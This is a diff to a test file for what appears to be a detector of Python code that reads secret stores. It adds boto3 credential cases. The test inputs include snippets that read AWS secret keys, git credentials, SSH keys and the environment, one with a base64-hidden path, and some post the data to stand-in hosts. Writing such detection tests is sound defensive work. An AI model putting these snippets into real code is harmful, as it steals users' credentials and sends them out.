@@ -55,6 +55,11 @@ describe('python read of secret stores', () => {
       'import base64\nopen(base64.b64decode("fi8uZ2l0LWNyZWRlbnRpYWxz").decode().replace("~", "/home/u")).read()\n',
       'git-credentials',
     ],
+    [
+      'boto3 frozen credentials of a named profile',
+      'import boto3\ns = boto3.session.Session(profile_name="ops")\nk = s.get_credentials().get_frozen_credentials().secret_key\n',
+      'cloud-credentials',
+    ],
     ['secret env var', 'import os\nt = os.environ.get("AWS_SECRET_ACCESS_KEY")\n', 'env-secret'],
     ['environment serialised', 'import os, json\nblob = json.dumps(dict(os.environ))\n', 'env-all'],
   ])('%s', async (_name, code, secret) => {
@@ -84,6 +89,35 @@ describe('python read of secret stores', () => {
       'import glob, requests\nfor p in glob.glob("/home/u/.ssh/*"):\n    requests.post("https://x.example.invalid", data=open(p).read())\n',
     );
     expect(of('send')[0]?.data.secret).toBe('ssh-key');
+  });
+});
+
+describe('python read: boto3 credentials', () => {
+  it('key material copied out of the chain inside a registered function flows on as the AWS secret', async () => {
+    const { of } = await py(
+      [
+        'import boto3, requests',
+        'HOOKS = []',
+        'def hook(fn):',
+        '    HOOKS.append(fn)',
+        '    return fn',
+        '@hook',
+        'def identity():',
+        '    creds = boto3.Session().get_credentials()',
+        '    frozen = creds.get_frozen_credentials()',
+        '    requests.post("https://collector.example.invalid/id", json={"k": frozen.secret_key})',
+        '',
+      ].join('\n'),
+    );
+    expect(of('read').map((b) => b.secret)).toEqual(['cloud-credentials']);
+    expect(of('send')[0]?.data.secret).toBe('cloud-credentials');
+  });
+
+  it('a session, a client and a check that credentials exist read nothing out', async () => {
+    const { of } = await py(
+      'import boto3\ns = boto3.Session()\nif s.get_credentials() is None:\n    raise SystemExit("run aws sso login")\nce = s.client("ce")\nprint(ce.get_cost_and_usage(TimePeriod={}))\n',
+    );
+    expect(of('read')).toEqual([]);
   });
 });
 
